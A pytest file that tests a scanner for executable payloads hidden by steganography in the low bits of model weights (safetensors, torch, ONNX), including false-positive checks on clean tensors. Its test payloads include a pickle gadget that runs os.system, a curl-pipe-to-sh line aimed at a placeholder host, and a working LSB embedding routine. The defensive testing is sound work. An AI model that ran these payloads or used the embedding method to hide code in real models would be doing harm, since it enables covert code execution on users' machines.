"""Weight steganography with 1 to 8 low bits per weight, compressed or XOR-ed payloads.

Covers are real random-normal weights made with numpy (float32, float16, bfloat16 through
torch, int8); payloads are a real exec pickle (never loaded), the head of this Python
interpreter's ELF binary, a zip, a shebang script and Python source. Files are written by
safetensors, torch.save and onnx. The clean twins measure the false-positive rate on 200
tensors of several sizes, scales and dtypes: none may be reported.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

np = pytest.importorskip("numpy")
torch = pytest.importorskip("torch")
safetensors_numpy = pytest.importorskip("safetensors.numpy")
onnx = pytest.importorskip("onnx")

from fixtures.mlscan import describe, scan_file  # noqa: E402

from hexscan.parsers import lsb  # noqa: E402
from hexscan.parsers.lsb_payload import payload_at_start  # noqa: E402


class _Exec:
    def __reduce__(self) -> tuple[object, ...]:
        return exec, ("import os; os.system('id')",)


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("run.py", "import os\nos.system('id')\n")
    return buffer.getvalue()


PAYLOADS: dict[str, bytes] = {
    "pickle": pickle.dumps(_Exec(), protocol=4) + bytes(64),
    "pickle-p2": pickle.dumps(_Exec(), protocol=2) + bytes(64),
    "elf": Path(sys.executable).resolve().read_bytes()[:2048],
    "zip": _zip(),
    "shebang": b"#!/bin/sh\ncurl -s https://example.invalid/x | sh\n" + bytes(64),
    "python": b"import os, socket\ns = socket.socket()\ndef run():\n    os.system('id')\n"
              b"run()\n" * 3,
}

def _raw_deflate(data: bytes) -> bytes:
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return comp.compress(data) + comp.flush()


def _xor(data: bytes, key: bytes) -> bytes:
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


TRANSFORMS: dict[str, Callable[[bytes], bytes]] = {
    "plain": lambda b: b,
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "lzma": lzma.compress,
    "xz-alone": lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE),
    "bz2": bz2.compress,
    "raw-deflate": lambda b: _raw_deflate(b),
    "xor1": lambda b: _xor(b, b"\x5a"),
    "xor2": lambda b: _xor(b, b"\x13\x37"),
    "xor4": lambda b: _xor(b, b"\xde\xad\xbe\xef"),
    "xor8": lambda b: _xor(b, b"hexsecr8"),
    "xor16": lambda b: _xor(b, bytes(range(101, 117))),
    "zlib-xor1": lambda b: _xor(zlib.compress(b), b"\xa5"),
    "length-prefix": lambda b: len(b).to_bytes(4, "little") + b,
    "length8-zlib": lambda b: (lambda z: len(z).to_bytes(8, "little") + z)(zlib.compress(b)),
}


def cover(dtype: str, n: int = 1 << 17, seed: int = 0, scale: float = 0.05) -> np.ndarray:
    """Random-normal weights as the raw unsigned integers of ``dtype``."""
    values = np.random.default_rng(seed).normal(0, scale, n)
    if dtype == "F32":
        return values.astype(np.float32).view(np.uint32).copy()
    if dtype == "F16":
        return values.astype(np.float16).view(np.uint16).copy()
    if dtype == "BF16":
        return torch.from_numpy(values.astype(np.float32)).bfloat16().view(torch.int16) \
            .numpy().view(np.uint16).copy()
    return np.clip(np.round(values / scale * 32), -127, 127).astype(np.int8).view(np.uint8).copy()


def embed(raw: np.ndarray, payload: bytes, k: int, little: bool) -> np.ndarray:
    """Write ``payload`` into the low ``k`` bits of consecutive elements."""
    bits = np.unpackbits(np.frombuffer(payload, np.uint8), bitorder="little" if little else "big")
    bits = np.concatenate([bits, np.zeros(-len(bits) % k, np.uint8)]).reshape(-1, k)
    weights = (1 << np.arange(k)) if little else (1 << np.arange(k - 1, -1, -1))
    fields = (bits.astype(np.uint32) * weights.astype(np.uint32)).sum(axis=1)
    out = raw.copy()
    n = len(fields)
    assert n <= len(out), "cover too small"
    mask = (1 << k) - 1
    out[:n] = (out[:n] & ~np.array(mask, out.dtype)) | fields.astype(out.dtype)
    return out


def verdict(raw: np.ndarray, dtype: str) -> lsb.LsbVerdict | None:
    return lsb.header_verdict(raw, dtype, np)


_MAX_BITS = {"F32": 8, "F16": 8, "BF16": 5, "I8": 7}


@pytest.mark.parametrize("dtype", sorted(_MAX_BITS))
@pytest.mark.parametrize("little", [False, True])
def test_every_k_and_bit_order(dtype: str, little: bool) -> None:
    missed = []
    for k in range(1, _MAX_BITS[dtype] + 1):
        for name in ("pickle", "elf"):
            found = verdict(embed(cover(dtype), PAYLOADS[name], k, little), dtype)
            if found is None or found.bits != k:
                missed.append((k, name, found))
    assert not missed


@pytest.mark.parametrize("transform", sorted(TRANSFORMS))
@pytest.mark.parametrize("payload", sorted(PAYLOADS))
def test_payload_transforms_are_undone(payload: str, transform: str) -> None:
    if (payload, transform) in _BEYOND_REACH:
        pytest.skip("documented limit: no known plaintext recovers this key length")
    data = TRANSFORMS[transform](PAYLOADS[payload])
    for k, little in ((1, False), (3, True), (8, False)):
        found = verdict(embed(cover("F32", seed=k), data, k, little), "F32")
        assert found is not None and found.bits == k, (k, little)
        if transform.startswith("xor"):
            assert "XOR" in found.detail


#: Keys longer than what the payload's known signature covers (zip local headers give 10
#: bytes, "import " 3; a short text gives too few samples per key byte for frequency
#: analysis).
_BEYOND_REACH = {("zip", "xor16"), ("python", "xor4"), ("python", "xor8"), ("python", "xor16")}


@pytest.mark.parametrize("payload", ["pickle", "elf", "zip", "python"])
@pytest.mark.parametrize("start", [1000, 9001])
def test_payload_written_from_a_later_element(payload: str, start: int) -> None:
    raw = cover("F32", seed=start)
    raw[start:] = embed(raw[start:], zlib.compress(PAYLOADS[payload])
                        if payload == "python" else PAYLOADS[payload], 1, False)
    found = verdict(raw, "F32")
    assert found is not None and found.bits == 1 and "at byte" in found.detail, found


def _clean_twins() -> list[tuple[str, str, np.ndarray]]:
    """200 clean tensors: dtypes x sizes x scales x seeds, plus structured covers."""
    out = []
    sizes = (16_384, 40_000, 100_000, 262_144)
    scales = (0.02, 0.05, 1.0)
    seed = 100
    for dtype in ("F32", "F16", "BF16", "I8"):
        for size in sizes:
            for scale in scales:
                for _ in range(4):
                    seed += 1
                    out.append((f"{dtype}-{size}-{scale}-{seed}", dtype,
                                cover(dtype, size, seed, scale)))
    rng = np.random.default_rng(5)
    for i in range(8):  # cast, quantised and sparse float32 covers
        base = rng.normal(0, 0.05, 65_536)
        base[rng.random(65_536) < 0.3 * (i % 2)] = 0
        out.append((f"f16-upcast-{i}", "F32", base.astype(np.float16).astype(np.float32)
                    .view(np.uint32).copy()))
        out.append((f"int8-dequant-{i}", "F32", (np.round(base * 2540) * np.float32(0.0123))
                    .astype(np.float32).view(np.uint32).copy()))
    return out


def test_clean_twins_false_positive_rate() -> None:
    twins = _clean_twins()
    assert len(twins) >= 200
    false = [(name, v.detail) for name, dtype, raw in twins
             if (v := verdict(raw, dtype)) is not None]
    assert false == [], f"{len(false)}/{len(twins)} clean tensors flagged: {false[:5]}"


def test_random_and_zero_streams_are_quiet() -> None:
    rng = np.random.default_rng(11)
    noisy = [payload_at_start(rng.bytes(4200)) for _ in range(300)]
    assert noisy.count(None) == 300
    assert payload_at_start(bytes(4200)) is None
    assert payload_at_start(b"\x80\x02" * 2100) is None


# --------------------------------------------------------------------- real files


def _stego_f32(payload: bytes, k: int) -> np.ndarray:
    return embed(cover("F32", 1 << 16, 3), payload, k, False).view(np.float32).reshape(256, 256)


def _lsb_hits(path: Path) -> list:
    return [f for f in scan_file(path).findings if f.rule.id == "HEX-PAY-004"]


@pytest.mark.parametrize(("transform", "k"), [("zlib", 2), ("xor4", 3), ("plain", 6)])
def test_stego_in_safetensors_torch_and_onnx(tmp_path: Path, transform: str, k: int) -> None:
    weights = _stego_f32(TRANSFORMS[transform](PAYLOADS["pickle"]), k)
    clean = cover("F32", 1 << 16, 4).view(np.float32).reshape(256, 256)
    safetensors_numpy.save_file({"w": weights, "b": clean}, str(tmp_path / "m.safetensors"))
    torch.save({"w": torch.from_numpy(weights.copy())}, str(tmp_path / "m.pt"))
    init = onnx.numpy_helper.from_array(weights, "w")
    graph = onnx.helper.make_graph([onnx.helper.make_node("Identity", ["w"], ["y"])], "g", [],
                                   [onnx.helper.make_tensor_value_info("y", 1, [256, 256])],
                                   initializer=[init])
    onnx.save_model(onnx.helper.make_model(graph), str(tmp_path / "m.onnx"))
    for name in ("m.safetensors", "m.pt", "m.onnx"):
        hits = _lsb_hits(tmp_path / name)
        assert hits and hits[0].evidence["low_bits"] == k, (name, describe(hits))
        assert "pickle" in hits[0].message


def test_int8_stego_in_safetensors_and_onnx(tmp_path: Path) -> None:
    weights = embed(cover("I8", 1 << 16, 6), zlib.compress(PAYLOADS["elf"]), 2, True) \
        .view(np.int8).reshape(256, 256)
    safetensors_numpy.save_file({"q": weights}, str(tmp_path / "q.safetensors"))
    init = onnx.numpy_helper.from_array(weights, "q")
    graph = onnx.helper.make_graph([onnx.helper.make_node("Identity", ["q"], ["y"])], "g", [],
                                   [onnx.helper.make_tensor_value_info("y", 3, [256, 256])],
                                   initializer=[init])
    onnx.save_model(onnx.helper.make_model(graph), str(tmp_path / "q.onnx"))
    for name in ("q.safetensors", "q.onnx"):
        hits = _lsb_hits(tmp_path / name)
        assert hits and "ELF" in hits[0].message, (name, describe(hits))


def test_clean_files_are_quiet(tmp_path: Path) -> None:
    rng = np.random.default_rng(8)
    tensors = {f"w{i}": rng.normal(0, 0.02, (300 + i, 200)).astype(np.float32) for i in range(3)}
    tensors["q"] = rng.integers(-127, 128, (256, 256)).astype(np.int8)
    tensors["h"] = rng.normal(0, 1, (256, 256)).astype(np.float16)
    safetensors_numpy.save_file(tensors, str(tmp_path / "c.safetensors"))
    torch.save({k: torch.from_numpy(v) for k, v in tensors.items()}, str(tmp_path / "c.pt"))
    inits = [onnx.numpy_helper.from_array(v, k) for k, v in tensors.items()]
    graph = onnx.helper.make_graph([], "g", [], [], initializer=inits)
    onnx.save_model(onnx.helper.make_model(graph), str(tmp_path / "c.onnx"))
    for name in ("c.safetensors", "c.pt", "c.onnx"):
        assert _lsb_hits(tmp_path / name) == [], name
